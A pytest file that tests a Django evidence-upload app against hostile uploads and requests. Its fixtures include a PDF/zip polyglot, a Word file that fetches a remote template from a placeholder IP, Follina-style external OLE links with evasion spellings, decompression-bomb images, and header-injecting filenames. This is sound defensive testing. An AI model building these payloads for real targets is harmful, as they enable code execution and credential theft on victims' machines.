"""Attacks on the 佐证材料 uploads and pages, as a hostile or careless user would try them: files that are two
things at once, forged image headers, Office files that fetch or run something when opened, the size cap at its
edge; another county's targets given in the form, requests without the CSRF token or with the wrong method; the
download's headers for a name full of quotes. Each test states what the product promises in front of the attack."""

import io
import struct
import zipfile
import zlib
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from PIL import Image

from tests.evidence import helpers as h
from tests.evidence.conftest import PAST, attach_pdf, make_trip, stored_files
from zhaoshang.carriers import photos
from zhaoshang.closing.services import month_close
from zhaoshang.core import uploads
from zhaoshang.core.errors import Refused
from zhaoshang.evidence import services
from zhaoshang.evidence.models import Attachment
from zhaoshang.evidence.views import disposition
from zhaoshang.projects import figures

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
CAP = 20 * MB


def refusal(name, data, cap=CAP) -> str:
    with pytest.raises(Refused) as caught:
        uploads.check_document(name, data, max_bytes=cap)
    (message,) = caught.value.messages
    return message


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in files.items():
            package.writestr(name, data)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims width × height pixels (greyscale), with a few bytes of image data: what a forged
    'decompression bomb' header looks like before anything is decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def docx_with(extra: dict[str, bytes], replace: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """A real docx (python-docx) with parts added, or a part's bytes replaced (old → new)."""
    source = zipfile.ZipFile(io.BytesIO(h.docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for info in source.infolist():
            data = source.read(info.filename)
            for old, new in [v for k, v in (replace or {}).items() if k == info.filename]:
                assert old in data
                data = data.replace(old, new)
            package.writestr(info, data)
        for name, data in extra.items():
            package.writestr(name, data)
    return out.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document_rel(kind: str, target: str, external: bool = True) -> tuple[bytes, bytes]:
    """A relationship added to word/_rels/document.xml.rels (a replace pair for docx_with)."""
    mode = ' TargetMode="External"' if external else ""
    added = f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    return b"</Relationships>", added.encode()


# --- files that are two things at once ------------------------------------------------------------------------------
def test_a_pdf_with_a_zip_appended_is_refused():
    """A PDF reader shows the page, an unzip tool finds the archive behind it: a way to slip an archive (or a .jar)
    past the PDF check. A real PDF is never also a zip."""
    polyglot = h.PDF + zipped({"run.exe": h.EXE})
    assert "不能上传" in refusal("合同.pdf", polyglot)


def test_an_images_trailing_html_does_not_survive_the_reencoding():
    checked = uploads.check_document("执照.png", h.png() + h.HTML, max_bytes=CAP)
    assert checked.content_type == "image/png" and b"<script" not in checked.data and b"html" not in checked.data


@pytest.mark.parametrize("name", ["x.jpg.exe", "x.jpg.html", "x.jpg\u202egpj.exe"])
def test_a_photo_named_to_run_is_refused(name):
    assert "扩展名为" in refusal(name, h.jpeg_with_gps())


def test_a_forged_header_claiming_a_huge_image_is_refused_before_decoding():
    assert refusal("照片.png", png_header_only(9000, 9000)) == "图片像素过大，请缩小后再上传"
    # past Pillow's own bomb limit as well: the same plain reason, not "unrecognisable"
    assert refusal("照片.png", png_header_only(60000, 60000)) == "图片像素过大，请缩小后再上传"


# --- Office files that reach out or carry programs ------------------------------------------------------------------
def test_a_docx_fetching_a_remote_template_is_refused():
    """Word fetches an attached template named by an external relationship when the file is opened (remote
    template injection; the county's PC would call a stranger's server, its Windows password hash with it)."""
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        f'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    message = refusal("合同.docx", docx_with({"word/_rels/settings.xml.rels": settings_rels}))
    assert message.startswith("文件含有指向外部的链接")


@pytest.mark.parametrize(
    "old, new",
    [
        ("", ""),
        (' TargetMode="External"', ' TargetMode="&#69;xternal"'),  # what Word reads as External all the same
        ('Target="mhtml', 'Target="x>y" Note="mhtml'),  # a `>` inside a value, before the mode
    ],
)
def test_a_docx_with_an_external_ole_link_is_refused(old, new):
    """The shape of 2022's Follina: an oleObject relationship pointing outside the file, however it is spelled."""
    before, after = document_rel("oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:x")
    after = after.replace(old.encode(), new.encode()) if old else after
    message = refusal("合同.docx", docx_with({}, {"word/_rels/document.xml.rels": (before, after)}))
    assert message.startswith("文件含有指向外部的链接")


def test_a_docx_with_an_embedded_ole_object_is_refused():
    """An OLE object inside a Word file (a packaged program the reader is invited to double-click)."""
    embedded = {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024}
    assert "嵌入" in refusal("合同.docx", docx_with(embedded))


def test_a_docx_with_an_ordinary_web_link_is_taken():
    """A hyperlink to a website is an ordinary document's: it is external but fetches nothing on opening."""
    rels = {"word/_rels/document.xml.rels": document_rel("hyperlink", "https://www.gov.cn/")}
    assert uploads.check_document("合同.docx", docx_with({}, rels), max_bytes=CAP).extension == "docx"


# --- the size cap at its edge ---------------------------------------------------------------------------------------
def test_a_file_exactly_at_the_cap_is_taken_and_one_byte_more_is_not(county, settings):
    settings.EVIDENCE_MAX_BYTES = 64 * 1024
    at_cap = h.PDF + b"0" * (64 * 1024 - len(h.PDF))
    found = services.attach(
        actor=county.reporter, kind="contract", upload=h.upload("a.pdf", at_cap), project=county.project
    )
    assert found.size == 64 * 1024
    with pytest.raises(Refused):
        services.attach(
            actor=county.reporter, kind="contract", upload=h.upload("b.pdf", at_cap + b"0"), project=county.project
        )
    assert Attachment.objects.count() == 1


# --- the pages ------------------------------------------------------------------------------------------------------


def test_another_countys_stage_change_given_as_the_target_is_refused(city, client_for):
    c = city.county
    theirs = city.n_project.stage_changes.first()
    assert theirs is not None
    for target in (f"stage:{theirs.pk}", "stage:999999", "problem:1", "step:1", "funds:1999-01", "stage:x"):
        response = client_for(c.reporter).post(
            reverse("evidence_project_upload", args=[c.project.pk]),
            {"kind": "contract", "target": target, "file": h.upload("合同.pdf", h.PDF)},
        )
        assert response.status_code == 200, target  # the form again, the choice refused
    assert not Attachment.objects.exists()


def test_every_write_needs_the_csrf_token(county, client_for):
    found = attach_pdf(county.reporter, project=county.project)
    client = Client(enforce_csrf_checks=True)
    client.force_login(county.reporter)
    posts = [
        (reverse("evidence_project_upload", args=[county.project.pk]), {"kind": "contract", "target": "project"}),
        (reverse("evidence_project_photo", args=[county.project.pk]), {"to": "project"}),
        (reverse("evidence_delete", args=[found.pk]), {}),
    ]
    for url, data in posts:
        assert client.post(url, {**data, "file": h.upload("合同.pdf", h.PDF)}).status_code == 403, url
    assert Attachment.objects.count() == 1


def test_a_get_on_the_post_only_routes_changes_nothing(county, client_for):
    found = attach_pdf(county.reporter, project=county.project)
    client = client_for(county.unit_head)
    assert client.get(reverse("evidence_delete", args=[found.pk])).status_code == 405
    assert client.get(reverse("evidence_project_photo", args=[county.project.pk])).status_code == 405
    assert Attachment.objects.filter(pk=found.pk).exists()


@pytest.mark.parametrize(
    "name",
    ['a"; filename="evil.exe.pdf', "a\r\nSet-Cookie: x=1.pdf", "合同\u202efdp.exe.pdf", "a;b=c,d.pdf"],
)
def test_a_hostile_name_never_breaks_the_download_header(name, county, client_for):
    found = attach_pdf(county.reporter, name=name, project=county.project)
    response = client_for(county.reporter).get(reverse("evidence_file", args=[found.pk]))
    header = response["Content-Disposition"]
    assert "\r" not in header and "\n" not in header and "Set-Cookie" not in response
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert header.startswith('attachment; filename="') and '"' not in fallback and ";" not in fallback
    assert header.count('"') == 2 and "evil.exe" not in header.split("filename*=")[0]
    assert "public" not in response["Cache-Control"] and response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


def test_the_header_function_quotes_nothing_it_is_given():
    header = disposition('x"\r\nX: y.pdf')
    assert header == "attachment; filename=\"xX y.pdf\"; filename*=UTF-8''x%22%0D%0AX%3A%20y.pdf"


def test_the_trip_and_photo_routes_keep_to_the_users_writes(city, client_for):
    c = city.county
    trip = make_trip(c.reporter, c.town)
    url = reverse("evidence_trip_upload", args=[trip.pk])
    photo = reverse("evidence_project_photo", args=[c.project.pk])
    for user, code in ((city.n_bureau, 404), (city.n_reporter, 404), (c.outsider, 404), (c.leader, 403)):
        data = {"kind": "other", "file": h.upload("行程单.pdf", h.PDF)}
        assert client_for(user).post(url, data).status_code == code, user
        assert client_for(user).post(photo, {"file": h.upload("a.png", h.png())}).status_code == code, user
    assert client_for(c.auditor).post(url, {"kind": "other", "file": h.upload("a.pdf", h.PDF)}).status_code == 403
    assert not Attachment.objects.exists()


def mpo() -> bytes:
    """A phone's JPEG carrying a second picture (a depth map or an HDR gain map, as MPF; Pillow calls it MPO)."""
    photo, extra = Image.new("RGB", (40, 30), (200, 0, 0)), Image.new("RGB", (20, 15), (0, 0, 0))
    out = io.BytesIO()
    photo.save(out, "MPO", save_all=True, append_images=[extra])
    return out.getvalue()


def test_a_phone_photo_carrying_a_second_picture_is_taken_as_the_photo_alone():
    """Such a photo is a JPEG like any other: taken, the first picture kept, the second dropped; for the
    carriers' photos too (core/uploads.py re-encodes both)."""
    checked = uploads.check_document("IMG_2001.JPG", mpo(), max_bytes=CAP)
    with Image.open(io.BytesIO(checked.data)) as stored:
        assert (checked.content_type, stored.format, stored.size) == ("image/jpeg", "JPEG", (40, 30))
        assert getattr(stored, "n_frames", 1) == 1
    carrier = photos.clean_image(h.upload("IMG_2002.JPG", mpo()))
    with Image.open(carrier) as stored:
        assert (stored.format, stored.size) == ("JPEG", (40, 30))


def test_a_closed_month_is_refused_through_the_pages_with_its_reason(county, client_for):
    c = county
    figures.monthly_funds_set(actor=c.bureau, project=c.project, month=PAST, amount=Decimal(50))
    receipt = attach_pdf(c.reporter, kind="bank_slip", project=c.project, funds_month=PAST)
    month_close(actor=c.bureau, month=PAST)
    client = client_for(c.reporter)
    response = client.post(
        reverse("evidence_project_upload", args=[c.project.pk]),
        {"kind": "bank_slip", "target": f"funds:{PAST:%Y-%m}", "file": h.upload("进账单.pdf", h.PDF)},
    )
    assert response.status_code == 200 and "已关账" in response.content.decode()
    refused = client.post(reverse("evidence_delete", args=[receipt.pk]), follow=True)
    assert "已关账" in refused.content.decode()
    assert list(Attachment.objects.all()) == [receipt]


def test_a_deleted_trip_leaves_no_file_of_its_behind(county, django_capture_on_commit_callbacks):
    """A trip's files go with the trip (the rows by CASCADE): their bytes must go too, not stay in the storage
    unreachable and never removed (a contract's scan is personal data)."""
    from zhaoshang.frontline import services as frontline

    trip = make_trip(county.reporter, county.town)
    found = attach_pdf(county.reporter, kind="other", name="行程单.pdf", trip=trip)
    assert found.file.name in stored_files()
    with django_capture_on_commit_callbacks(execute=True):
        frontline.trip_delete(actor=county.reporter, trip=trip)
    assert not Attachment.objects.exists() and found.file.name not in stored_files()


def test_a_small_png_unpacking_to_hundreds_of_megabytes_is_refused_and_a_grey_scan_is_not():
    """A flat colour PNG of 6,000 × 6,000 pixels is a few hundred KB on the wire but 144 MB decoded (twice that
    while resized): refused. A grey 600 dpi A4 scan of as many pixels is a quarter of that: taken."""
    flat = io.BytesIO()
    Image.new("RGBA", (6000, 6000), (10, 20, 30, 255)).save(flat, "PNG")
    assert len(flat.getvalue()) < MB
    assert refusal("扫描件.png", flat.getvalue()) == "图片像素过大，请缩小后再上传"
    scan = io.BytesIO()
    Image.new("L", (4960, 7016), 255).save(scan, "PNG")
    checked = uploads.check_document("扫描件.png", scan.getvalue(), max_bytes=CAP)
    with Image.open(io.BytesIO(checked.data)) as stored:
        assert max(stored.size) == uploads.IMAGE_MAX_SIDE
